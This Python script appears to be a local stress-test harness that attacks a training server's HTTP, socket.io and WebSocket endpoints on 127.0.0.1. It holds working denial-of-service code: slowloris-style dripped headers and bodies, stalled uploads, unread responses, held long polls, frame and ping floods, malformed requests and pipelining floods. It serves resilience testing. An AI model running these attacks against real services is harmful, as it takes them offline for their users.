"""Attack a server without a token until killed: `attack.py PORT KIND=CONNECTIONS ...`.

The program opens a connection again as soon as the server has closed it. It prints a line once it has opened all.
"""

from __future__ import annotations

import asyncio
import os
import resource
import socket
import struct
import sys
from collections.abc import Awaitable, Callable

UPGRADE = (
    b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
    b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
POST = b"POST /training/start HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


class Connection:
    def __init__(self, port: int) -> None:
        self._loop = asyncio.get_running_loop()
        self._port = port
        self._sock = socket.socket()
        self._sock.setblocking(False)

    async def __aenter__(self) -> Connection:
        await self._loop.sock_connect(self._sock, ("127.0.0.1", self._port))
        return self

    async def __aexit__(self, *_: object) -> None:
        self._sock.close()

    def read_little(self) -> None:
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)

    async def send(self, data: bytes) -> None:
        await self._loop.sock_sendall(self._sock, data)

    async def receive(self) -> bytes:
        received = await self._loop.sock_recv(self._sock, 65536)
        if not received:
            raise ConnectionResetError
        return received

    async def stay(self) -> None:
        """Read everything until the server closes the connection."""
        while True:
            await self.receive()

    async def drip(self, data: bytes = b"x", pause_s: float = 1) -> None:
        while True:
            await self.send(data)
            await asyncio.sleep(pause_s)


def frame(payload: bytes, opcode: int = 1) -> bytes:
    """Return a masked frame. The mask is 0."""
    length = len(payload)
    size = bytes([0x80 | length]) if length < 126 else b"\xff" + struct.pack("!Q", length)
    return bytes([0x80 | opcode]) + size + bytes(4) + payload


async def silent(connection: Connection) -> None:
    await connection.stay()


async def half_heads(connection: Connection) -> None:
    await connection.send(b"GET /training/status HTTP/1.1\r\nHost: localhost\r\n")
    await connection.stay()


async def dripped_heads(connection: Connection) -> None:
    await connection.send(b"GET /training/status HTTP/1.1\r\nX-A: ")
    await connection.drip()


async def half_bodies(connection: Connection) -> None:
    await connection.send(POST + b"Content-Length: 1000\r\n\r\n{")
    await connection.stay()


async def long_half_bodies(connection: Connection) -> None:
    await connection.send(POST + b"Content-Length: 100000\r\n\r\n" + b" " * 70_000)
    await connection.stay()


async def dripped_bodies(connection: Connection) -> None:
    await connection.send(POST + b"Transfer-Encoding: chunked\r\n\r\n")
    await connection.drip(b"1\r\n \r\n")


async def expectations(connection: Connection) -> None:
    await connection.send(POST + b"Content-Length: 100000\r\nExpect: 100-continue\r\n\r\n")
    await connection.stay()


async def unread_answers(connection: Connection) -> None:
    connection.read_little()
    await connection.send(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n")
    await asyncio.sleep(3600)


async def open_poll(connection: Connection) -> str:
    await connection.send(b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: localhost\r\n\r\n")
    answer = await connection.receive()
    if b'"sid":"' not in answer:
        raise ConnectionResetError
    return answer.partition(b'"sid":"')[2].partition(b'"')[0].decode()


async def long_polls(connection: Connection) -> None:
    sid = await open_poll(connection)
    await connection.send(f"GET /socket.io/?EIO=4&transport=polling&sid={sid} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    await connection.stay()


async def half_posts_of_polls(connection: Connection) -> None:
    sid = await open_poll(connection)
    head = f"POST /socket.io/?EIO=4&transport=polling&sid={sid} HTTP/1.1\r\nHost: a\r\nContent-Length: 9000\r\n\r\n"
    await connection.send(head.encode())
    await connection.stay()


async def unjoined(connection: Connection) -> None:
    await connection.send(UPGRADE)
    await connection.stay()


async def flood(connection: Connection, frames: bytes) -> None:
    await connection.send(UPGRADE)
    if b"101 Switching" in await connection.receive():
        while True:
            await connection.send(frames)


async def small_frames(connection: Connection) -> None:
    await flood(connection, frame(b"3") * 1000)


async def pings(connection: Connection) -> None:
    await flood(connection, frame(b"", opcode=9) * 1000)


async def long_frames(connection: Connection) -> None:
    await flood(connection, frame(b"4" * 900_000))


async def malformed(connection: Connection) -> None:
    await connection.send(b"GET /ping HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n")
    await connection.stay()


async def pipelined(connection: Connection) -> None:
    while True:
        await connection.send(b"GET /ping HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100)
        await connection.receive()


ATTACKS: dict[str, Callable[[Connection], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        silent,
        half_heads,
        dripped_heads,
        half_bodies,
        long_half_bodies,
        dripped_bodies,
        expectations,
        unread_answers,
        long_polls,
        half_posts_of_polls,
        unjoined,
        small_frames,
        pings,
        long_frames,
        malformed,
        pipelined,
    )
}


async def repeat(attack: Callable[[Connection], Awaitable[None]], port: int, counts: list[int], name: str) -> None:
    while True:
        try:
            async with Connection(port) as connection:
                counts.append(1)
                await attack(connection)
        except OSError:
            pass
        await asyncio.sleep(0.2)  # Attackers and server share one machine.


async def main(port: int, wanted: dict[str, int]) -> None:
    counts: dict[str, list[int]] = {name: [] for name in wanted}
    attacks = [
        asyncio.create_task(repeat(ATTACKS[name], port, counts[name], name))
        for name, number in wanted.items()
        for _ in range(number)
    ]
    while any(len(counts[name]) < number for name, number in wanted.items()):
        await asyncio.sleep(0.05)
    print("all", flush=True)
    await asyncio.gather(*attacks)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(5)
    asyncio.run(main(int(sys.argv[1]), {kind: int(n) for kind, _, n in (each.partition("=") for each in sys.argv[2:])}))
